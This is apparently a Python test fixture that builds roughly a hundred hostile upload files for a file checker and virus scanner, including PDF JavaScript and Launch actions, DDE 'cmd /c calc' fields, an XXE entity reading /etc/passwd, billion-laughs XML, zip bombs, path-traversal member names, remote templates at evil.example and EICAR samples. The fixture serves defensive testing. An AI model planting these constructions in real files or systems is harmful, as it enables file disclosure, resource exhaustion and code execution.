"""Hostile files, made here. Each is a name and what makes it; the checks were written with these in view.

Their scripts ask for /ran where they can: a browser test counts that.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from assurance.virus_scanner import EICAR
from tests.assurance.files.builders import (
    OLE,
    TYPES,
    archive,
    message,
    office,
    open_document,
    outlook,
    packed,
    pdf,
    picture,
    png_of,
    relation,
    stream,
)

CALL = "fetch('/ran?'+location.pathname)"
PAGE = f"<!DOCTYPE html><html><head><title>x</title></head><body><script>{CALL}</script></body></html>".encode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{CALL}</script></svg>'.encode()
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    + "]><x>&j;</x>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
DDE = '<w:document xmlns:w="x"><w:instrText>DDE</w:instrText><w:instrText>AUTO cmd "/c calc"</w:instrText></w:document>'
MACRO_TYPE = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'

MACRO_WORKBOOK = '<Override PartName="/xl/w.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'


def program(signature: bytes) -> bytes:
    return signature + b"\x90\x00\x03\x00" + bytes(300)


def zeroes(size: int) -> bytes:
    """So many zero bytes, deflated without ever being in memory at once."""
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = bytes(1024 * 1024)
    return b"".join(pack.compress(piece) for _ in range(size // len(piece))) + pack.flush()


def raw_archive(members: list[tuple[str, bytes, int, int]], directory: list[tuple[int, int]] | None = None) -> bytes:
    """Members as (name, deflated bytes, size said, check sum); `directory` lists them otherwise, as (offset, index)."""
    body, listed, offsets = b"", b"", []
    for name, content, size, check in members:
        offsets.append(len(body))
        fields = (20, 0, 8, 0, 0, check, len(content), size, len(name), 0)
        body += struct.pack("<4s5H3I2H", b"PK\x03\x04", *fields) + name.encode() + content
    for offset, index in directory or [(offset, index) for index, offset in enumerate(offsets)]:
        name, content, size, check = members[index]
        if directory:
            name = f"{name}{len(listed)}"
        fields = (20, 20, 0, 8, 0, 0, check, len(content), size, len(name), 0, 0, 0, 0, 0, offset)
        listed += struct.pack("<4s6H3I5H2I", b"PK\x01\x02", *fields) + name.encode()
    count = len(directory or members)
    return body + listed + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(listed), len(body), 0)


def types_member() -> tuple[str, bytes, int, int]:
    content = (TYPES + "</Types>").encode()
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    return "[Content_Types].xml", pack.compress(content) + pack.flush(), len(content), zlib.crc32(content)


def one_gigabyte() -> bytes:
    return raw_archive([types_member(), ("word/document.xml", zeroes(1 << 30), 1 << 30, 0)])


def a_lie_about_size() -> bytes:
    return raw_archive([types_member(), ("word/document.xml", zeroes(100 << 20), 1000, 0)])


def overlapping() -> bytes:
    first, big = types_member(), ("word/a", zeroes(10 << 20), 10 << 20, 0)
    at = len(raw_archive([first])) - 22 - (46 + len(first[0]))
    return raw_archive([first, big], [(0, 0)] + [(at, 1)] * 2000)


def many_members() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        for number in range(30_000):
            file.writestr(f"{number}", "")
    return buffer.getvalue()


def climbing(name: str) -> bytes:
    return office("docx", {name: "x"})


def encrypted_member() -> bytes:
    content = bytearray(office("docx"))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def encrypted_office() -> bytes:
    return OLE + bytes(1000) + "EncryptedPackage".encode("utf-16-le") + bytes(1000)


def utf_16(text: str) -> bytes:
    return b"\xff\xfe" + text.encode("utf-16-le")


def nested() -> bytes:
    inner = office("xlsx")
    for _ in range(3):
        inner = office("xlsx", {"xl/embeddings/Sheet1.xlsx": inner})
    return office("docx", {"word/embeddings/Sheet1.xlsx": inner})


def packed_bomb() -> bytes:
    content = zlib.compress(bytes(200 << 20), 9)
    return pdf(stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", content))


OLE_STREAM = stream("/Type /EmbeddedFile", b"MZ program")
HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    # PDF
    "script in a PDF": ("a.pdf", lambda: pdf("<< /S /JavaScript /JS (app.alert(1)) >>")),
    "script in an object stream": ("b.pdf", lambda: pdf(packed("<< /S /JavaScript /JS (app.alert(1)) >>"))),
    "script under an escaped name": ("c.pdf", lambda: pdf("<< /S /J#61vaScript /#4aS (app.alert(1)) >>")),
    "script when a PDF opens": ("d.pdf", lambda: pdf("<< /OpenAction << /S /JavaScript /JS 9 0 R >> >>")),
    "script in a page action": ("e.pdf", lambda: pdf("<< /Type /Page /AA << /O << /JS (x) /S /JavaScript >> >> >>")),
    "script in a link": ("f.pdf", lambda: pdf("<< /Subtype /Link /A << /S /JavaScript /JS (x) >> >>")),
    "PDF starts a program": ("g.pdf", lambda: pdf("<< /S /Launch /F (cmd.exe) >>")),
    "PDF with an attached program": ("h.pdf", lambda: pdf(OLE_STREAM)),
    "PDF with a file attachment": ("i.pdf", lambda: pdf("<< /Type /Filespec /EF << /F 5 0 R >> >>")),
    "PDF with a dynamic form": ("j.pdf", lambda: pdf("<< /XFA [ (template) 5 0 R ] >>")),
    "PDF with a film": ("k.pdf", lambda: pdf("<< /Type /Annot /Subtype /RichMedia >>")),
    "encrypted PDF": ("l.pdf", lambda: pdf("<< >>", end=b"trailer << /Encrypt 5 0 R >>\n%%EOF\n")),
    "PDF that is a page too": ("m.pdf", lambda: b"%PDF-1.7\n" + PAGE + b"\n%%EOF\n"),
    "PDF with a page behind it": ("n.pdf", lambda: pdf() + PAGE),
    "PDF that is an archive too": ("o.pdf", lambda: pdf() + archive({"run.js": "x"})),
    "PDF that begins late": ("p.pdf", lambda: b"\n" * 10 + pdf()),
    "PDF that is cut off": ("q.pdf", lambda: pdf(end=b"")),
    "PDF that grows": ("r.pdf", packed_bomb),
    "page named PDF": ("s.pdf", lambda: PAGE),
    # Pictures
    "SVG": ("a.svg", lambda: SVG),
    "SVG named PNG": ("b.png", lambda: SVG),
    "page named JPEG": ("c.jpg", lambda: PAGE),
    "GIF that is a script too": ("d.gif", lambda: b"GIF89a/*" + bytes(20) + f"*/=1;{CALL}".encode()),
    "PNG with a page behind it": ("e.png", lambda: picture("png") + PAGE),
    "PNG with an archive behind it": ("f.png", lambda: picture("png") + archive({"a.exe": "x"})),
    "JPEG with a script behind it": ("g.jpg", lambda: picture("jpg") + PAGE),
    "PNG of 50,000 by 50,000": ("h.png", lambda: png_of(50_000, 50_000)),
    "GIF of 65,535 by 65,535": (
        "i.gif",
        lambda: b"GIF89a\xff\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x00;",
    ),
    "PNG that is cut off": ("j.png", lambda: picture("png")[:-20]),
    "PNG that was changed": ("k.png", lambda: picture("png").replace(b"IDAT", b"IDBT")),
    # Office
    "macros in Word": ("a.docx", lambda: office("docx", {"word/vbaProject.bin": OLE + b"x"}, MACRO_TYPE)),
    "macros by another name": ("b.docx", lambda: office("docx", {"word/x.bin": b"x"}, MACRO_TYPE)),
    "macro document renamed": (
        "c.xlsx",
        lambda: archive({"[Content_Types].xml": f"{TYPES}{MACRO_WORKBOOK}</Types>"}),
    ),
    "macro sheet of old": (
        "d.xlsx",
        lambda: office(
            "xlsx",
            types='<Override PartName="/xl/macrosheets/s.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
        ),
    ),
    "remote template": (
        "e.docx",
        lambda: office(
            "docx", {"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/a.dotm")}
        ),
    ),
    "remote object": (
        "f.docx",
        lambda: office(
            "docx", {"word/_rels/document.xml.rels": relation("oleObject", "mhtml:http://evil.example/a!x")}
        ),
    ),
    "remote frame": (
        "g.docx",
        lambda: office("docx", {"word/_rels/webSettings.xml.rels": relation("frame", "http://evil.example/")}),
    ),
    "web page inside": (
        "h.docx",
        lambda: office("docx", {"word/_rels/document.xml.rels": relation("aFChunk", "afchunk.htm", "Internal")}),
    ),
    "OLE object": ("i.docx", lambda: office("docx", {"word/embeddings/oleObject1.bin": OLE + b"\x01Ole10Native"})),
    "ActiveX": ("j.docx", lambda: office("docx", {"word/activeX/activeX1.xml": "<x/>"})),
    "program inside": ("k.docx", lambda: office("docx", {"word/media/image1.png": program(b"MZ")})),
    "DDE field": ("l.docx", lambda: office("docx", main=DDE)),
    "DDE link": (
        "m.xlsx",
        lambda: office(
            "xlsx", {"xl/externalLinks/externalLink1.xml": '<x><ddeLink ddeService="cmd" ddeTopic="/c calc"/></x>'}
        ),
    ),
    "a button that starts a program": (
        "n.pptx",
        lambda: office("pptx", {"ppt/slides/slide1.xml": '<a action="ppaction://program?x"/>'}),
    ),
    "billion laughs": ("o.docx", lambda: office("docx", main=LAUGHS)),
    "billion laughs in UTF-16": ("p.docx", lambda: office("docx", {"word/styles.xml": utf_16(LAUGHS)})),
    "XML that reads a file": ("q.xlsx", lambda: office("xlsx", {"xl/sharedStrings.xml": OUTSIDE})),
    "XML in UTF-7": (
        "r.docx",
        lambda: office("docx", {"word/styles.xml": '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE'}),
    ),
    "encrypted Office file": ("s.docx", encrypted_office),
    "old Office file renamed": ("t.docx", lambda: OLE + bytes(1000) + "WordDocument".encode("utf-16-le") + bytes(1000)),
    "Excel named Word": ("u.docx", lambda: office("xlsx")),
    "macros in OpenDocument": ("v.odt", lambda: open_document("odt", {"Basic/Standard/Module1.xml": "<x/>"})),
    "script in OpenDocument": (
        "w.odt",
        lambda: open_document("odt", {"styles.xml": '<script:event-listener xlink:href="vnd.sun.star.script:x"/>'}),
    ),
    "encrypted OpenDocument": (
        "x.ods",
        lambda: open_document("ods", manifest="<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"),
    ),
    "OpenDocument that loads a page": (
        "y.odp",
        lambda: open_document("odp", {"styles.xml": '<draw:floating-frame xlink:href="http://evil.example"/>'}),
    ),
    # Archives
    "a gigabyte in a megabyte": ("a.xlsx", one_gigabyte),
    "30,000 members": ("b.xlsx", many_members),
    "2,000 overlapping members": ("c.pptx", overlapping),
    "a lie about size": ("d.pptx", a_lie_about_size),
    "archives in archives": ("e.pptx", lambda: nested()),
    "nested archive": ("f.pptx", lambda: office("pptx", {"ppt/media/a.bin": archive({"a": "x"})})),
    "climbing name": ("g.pptx", lambda: climbing("../../evil.xml")),
    "absolute name": ("h.pptx", lambda: climbing("/etc/cron.d/evil")),
    "name with a drive": ("i.pptx", lambda: climbing("C:\\evil.xml")),
    "encrypted member": ("j.pptx", encrypted_member),
    "archive behind a page": ("k.pptx", lambda: PAGE + office("docx")),
    "archive with something behind it": ("l.pptx", lambda: office("pptx") + b"<script>"),
    "any archive": ("m.pptx", lambda: archive({"readme.txt": "x"})),
    "Java program": ("n.odp", lambda: archive({"META-INF/MANIFEST.MF": "x", "Main.class": b"\xca\xfe\xba\xbe"})),
    # Programs
    "Windows program named PDF": ("aa.pdf", lambda: program(b"MZ")),
    "Linux program named text": ("ab.txt", lambda: program(b"\x7fELF")),
    "shortcut named CSV": ("ac.csv", lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100)),
    "HTML application": ("ad.hta", lambda: b"<hta:application>" + PAGE),
    "two endings": ("ae.pdf.exe", lambda: program(b"MZ")),
    "macro document by name": ("af.docm", lambda: office("docx")),
    # Text and messages
    "page named text": ("ba.txt", lambda: PAGE),
    "page named CSV": ("bb.csv", lambda: b"\xef\xbb\xbf\r\n <!-- report -->" + PAGE),
    "page in UTF-16": ("bc.txt", lambda: utf_16(PAGE.decode())),
    "page in UTF-7": ("bd.txt", lambda: b"+ADw-script+AD4-" + CALL.encode() + b"+ADw-/script+AD4-"),
    "SVG named text": ("be.txt", lambda: SVG),
    "style sheet with a script": ("bf.txt", lambda: b'<?xml version="1.0"?><xsl:stylesheet/>'),
    "web archive named message": (
        "bg.eml",
        lambda: b"From: <Saved by Blink>\r\nSnapshot-Content-Location: http://evil.example/\r\n\r\n" + PAGE,
    ),
    "web archive named text": (
        "bh.txt",
        lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + PAGE,
    ),
    "script after 5 kB": ("bi.txt", lambda: b"Minutes. " * 700 + PAGE),
    "picture that calls": ("bj.txt", lambda: f'<img src=x onerror="{CALL}">'.encode()),
    "binary named text": ("bk.txt", lambda: b"Minutes\x00\x01\x02" * 20),
    "page named message": ("bl.eml", lambda: PAGE),
    "program in a message": ("bm.eml", lambda: message({"invoice.pdf.exe": program(b"MZ")})),
    "program under a hidden name": ("bn.eml", lambda: message({"invoïce.js": b"x"})),
    "page in a message": ("bo.eml", lambda: message({"form.html": PAGE})),
    "program in an Outlook message": ("bp.msg", lambda: outlook("invoice.exe")),
    "any old container": ("bq.msg", lambda: OLE + bytes(2000)),
    "empty": ("br.pdf", lambda: b""),
    # The test file of all virus scanners
    "EICAR named PDF": ("ca.pdf", lambda: EICAR),
    "EICAR in a PDF attachment": ("cb.pdf", lambda: pdf(stream("/Type /EmbeddedFile", EICAR))),
}

BIG = {"a gigabyte in a megabyte", "30,000 members", "2,000 overlapping members", "a lie about size", "PDF that grows"}

# What no check can refuse, because it is what it says: the scanner has to find it.
FOR_THE_SCANNER: dict[str, tuple[str, Callable[[], bytes]]] = {
    "plain": ("eicar.txt", lambda: EICAR),
    "in a Word file": ("eicar.docx", lambda: office("docx", {"word/media/eicar.txt": EICAR})),
    "in a PDF stream": ("eicar.pdf", lambda: pdf(stream("/Filter /FlateDecode", zlib.compress(EICAR)))),
    "in an OpenDocument archive": ("eicar.odt", lambda: open_document("odt", {"Pictures/eicar.com.txt": EICAR})),
    "in a message, as base64": ("eicar.eml", lambda: message({"eicar.txt": EICAR})),
}
